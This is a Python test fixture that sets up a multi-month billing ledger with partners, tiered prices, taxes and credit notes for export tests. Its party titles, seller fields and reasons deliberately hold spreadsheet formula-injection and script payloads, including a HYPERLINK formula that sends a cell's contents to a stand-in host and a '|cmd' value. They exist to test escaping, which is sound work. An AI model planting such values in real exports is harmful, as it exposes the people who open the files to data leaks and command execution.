"""A real stack with three months on its books: one closed, one closed with corrections (late usage and notes), and the running one, a draft with corrections. Two partners in euros, one
in dollars, one in yen; a minimum, a cap, a discount, tiers and paid replays; names that a spreadsheet would run. Used by open_exports.py.

Months are made past as tests/e2e/periods.py does: what was delivered now is moved in the database, by its owner, to a day of an earlier month.
"""
import datetime
import pathlib
import re
import sys

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "support"))
from harness import Context, licet_demo  # noqa: E402
from licet_client import await_condition, data_bytes  # noqa: E402

PRODUCT = "wiki-edits"
# Titles of parties. Control characters are refused there (a case says so); who bills is configured, and may have them.
TITLES = {
    "formula": '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3|cmd",
    "at": "@SUM(1,1), Ltd. \"quoted\"",
    "apostrophe": "'=already led",
    "vast": "Vast & Sons",
    "wide": "\uff1dSUM(1) \u682a\u5f0f\u4f1a\u793e \u00c5ngstr\u00f6m \U0001f9fe <b>&amp;</b> \u0085\x7f\ufdd0\uffff\U0001ffff end",
}
SELLER = "\t=Seller, Inc."
TERMS = "\r\n+30 days; \"net\""
REASONS = ("=1+1 outage on the 12th", "@late <script>alert(1)</script>, \"quoted\" \u20ac \U0001f9fe", "-2 goodwill", "\uff0b wide")
TIERS = {"currency": "EUR", "charges": [
    {"metric": "events", "model": "graduated", "included": "10", "tiers": [{"upTo": "50", "unitPrice": "0.123", "flatFee": "2"}, {"unitPrice": "0.0777"}]},
    {"metric": "megabytes", "model": "flat", "unitPrice": "3.5"}], "discountPercent": "7.5", "cap": "5.55"}
# contract -> (price, party's country)
CONTRACTS = {
    "formula": (TIERS, "DE"),
    "plus": ({"currency": "JPY", "charges": [{"metric": "events", "model": "flat", "unitPrice": "3.3"}], "minimum": "12345", "replays": "billed"}, "FR"),
    "minus": ({"currency": "KWD", "charges": [{"metric": "megabytes", "model": "flat", "unitPrice": "1.7"}], "minimum": "4.567"}, "NL"),
    "at": ({"currency": "EUR", "charges": [{"metric": "minutes", "model": "package", "packageSize": "10", "packagePrice": "1.005"}]}, "FR"),
    "apostrophe": ({"currency": "USD", "perEvent": "0.002", "perMb": "0.35"}, "AT"),
    "vast": ({"currency": "EUR", "charges": [{"metric": "events", "model": "flat", "unitPrice": "0.01"}], "minimum": "12345678901234.56"}, "DE"),  # more digits than a spreadsheet's number has
    "wide": ({"currency": "EUR", "perEvent": "0.0005", "perMb": "0.12"}, "DE"),
}
FINANCE = """
[finance]
seller_name = "\\t=Seller, Inc."
seller_address = ["@Street 1", "<10115> Berlin"]
seller_country = "DE"
seller_vat_id = "DE123456789"
seller_registration = "=HRB 1"
payment_terms = "\\r\\n+30 days; \\"net\\""
tax = ["2020-01 DE S 19", "2020-01 plus AE 0 <Reverse> charge", "2020-01 at AE 0 <Reverse> charge", "2020-01 apostrophe O 0 Not subject to VAT"]
buyer_vat_ids = ["plus FR12345678901"]
"""
# contract -> (category, rate, why its papers state no tax): of a country's buyers, of two abroad, one of whom has no VAT identifier, of one who is not subject to VAT, and of one nobody spoke of
TAXES = {
    "formula": ("S", 19, None), "wide": ("S", 19, None), "vast": ("S", 19, None), "plus": ("AE", 0, None), "apostrophe": ("O", None, None),
    "at": ("AE", 0, "the buyer's VAT identifier is missing (BR-AE-02)"), "minus": (None, None, "the VAT category of this buyer is not configured"),
}


def plain(text):
    """As it can be shown everywhere: without what XML and HTML cannot carry, and with single spaces."""
    return " ".join(re.sub("[\x7f-\x9f\ufdd0-\ufdef\ufffd-\uffff\U0001fffe\U0001ffff]", " ", text).split())


def month(back):
    first = datetime.datetime.now(datetime.timezone.utc).date().replace(day=1)
    for _ in range(back):
        first = (first - datetime.timedelta(days=1)).replace(day=1)
    return first


def move(sql, day):
    """What was delivered in the running month was delivered on that day: in every table of usage that is booked by its day."""
    booked = sql("SELECT table_name FROM information_schema.columns JOIN information_schema.tables USING (table_schema, table_name) WHERE table_type = 'BASE TABLE' AND table_name LIKE 'usage%' "
                 "AND column_name IN ('day', 'period') GROUP BY 1 HAVING count(*) = 2 ORDER BY 1").split()
    assert "usage_billed" in booked and "usage_delivered" in booked, f"tables of usage: {booked}"
    for table in booked:
        sql(f"UPDATE {table} SET day = '{day}' WHERE day >= '{month(0).isoformat()}'")


class Books(Context):
    def __init__(self, events):
        super().__init__(with_redis=False)
        try:
            self.events, self.cursors, self.received, self.fed = events, {}, {}, 0
            self.draft, self.corrected, self.closed = (month(back).strftime("%Y-%m") for back in range(3))
            self.finance = self.client("finance")
            self.configure()
            self.deliver()
            self.move_to(self.closed, 10)
            self.close_month(self.closed)
            self.deliver()
            self.move_to(self.corrected, 3)
            self.deliver()  # late: of the closed month
            self.move_to(self.closed, 20)
            self.deliver(replay="plus")
            self.move_to(self.corrected, 4)
            for number, (contract, reason, amount) in enumerate(zip(("formula", "wide", "plus", "at"), REASONS, ("-1.25", "3.10", "-77", "-0.01"))):
                self.note(f"cn-{number}", contract, self.closed, self.corrected, reason, amount)
            self.close_month(self.corrected)
            self.deliver()  # late: of the second closed month
            self.move_to(self.corrected, 21)
            self.note("cn-9", "formula", self.corrected, self.draft, REASONS[0], "-5000")
            self.deliver()
            self.months = (self.closed, self.corrected, self.draft)
        except BaseException:
            self.stack.stop()
            raise

    def configure(self):
        stack, admin = self.stack, self.client("admin")
        like_party = admin.get("/v1/admin/parties/berlin-lab").json()
        like = admin.get("/v1/admin/contracts/berlin-lab").json()
        for name, (price, country) in CONTRACTS.items():
            admin.put(f"/v1/admin/parties/{name}", {"collections": like_party["collections"], "adequacySchemes": [], "country": country, "title": TITLES[name]})
            admin.put(f"/v1/admin/contracts/{name}", {**{k: like[k] for k in ("purposes", "transferTools", "pseudonymScope")}, "party": name, "products": [PRODUCT], "state": "active", "price": price})
            made = admin.post("/v1/admin/clients", {"id": name, "party": name, "roles": ["partner"], "scopes": [f"read:{PRODUCT}"]}).json()
            stack.save_client_secret(name, made["secret"])
        stack.stop_node("eu")
        stack.write_config("eu", extra=FINANCE)
        stack.start_node("eu")
        self.admin = admin

    def sql(self, text):
        return self.stack.psql(self.stack.database("eu"), text)

    def deliver(self, replay=None):
        """Publishes, has every contract receive what is new, and waits until the ledger has it."""
        lines = self.generator.lines("edits", "open", self.events, self.fed, self.generator.parse_start(self.generator.DEFAULT_START["edits"]))
        self.fed += self.events
        licet_demo.feed(self.client("wiki-feed"), PRODUCT, lines)
        for name in CONTRACTS:
            client = self.client(name)
            got, self.cursors[name] = licet_demo.pull_all(client, PRODUCT, from_=self.cursors.get(name, "earliest"))
            self.received[name] = self.received.get(name, 0) + len(got)
            assert got, f"{name} received nothing"
            if replay == name:
                again, _ = licet_demo.pull_all(client, PRODUCT)
                self.replayed = (len(again), sum(len(data_bytes(event)) for event in again))

        def booked():
            rows = self.sql("SELECT c.name, sum(b.events) FROM usage_billed b JOIN contracts c ON c.no = b.contract GROUP BY 1").splitlines()
            billed = {row.split("|")[0]: int(row.split("|")[1]) for row in rows}
            return all(billed.get(name) == count for name, count in self.received.items())
        await_condition("usage in the ledger", booked, 120)
        if replay:
            await_condition("replays in the ledger", lambda: int(self.sql("SELECT coalesce(sum(events), 0) FROM usage_replayed")) == self.replayed[0], 120)

    def move_to(self, period, day):
        """What is booked into the running month was delivered on that day; of a closed month it is late, and booked into the first open one."""
        move(self.sql, f"{period}-{day:02}")

    def close_month(self, period):
        def closable():
            return next((p for p in self.finance.get("/v1/finance/periods").json()["periods"] if p["period"] == period and p["state"] == "closable"), None)
        await_condition(f"{period} can be closed", closable, 120)
        self.finance.post(f"/v1/finance/periods/{period}/close")

    def note(self, reference, contract, corrects, period, reason, amount):
        self.finance.post("/v1/finance/corrections", {"reference": reference, "contract": contract, "chargePeriod": corrects, "period": period, "reason": reason, "amount": amount})

    def report(self, name, period, **query):
        text = "&".join(f"{key}={value}" for key, value in query.items())
        return self.finance.get(f"/v1/finance/reports/{name}?period={period}&{text}").body
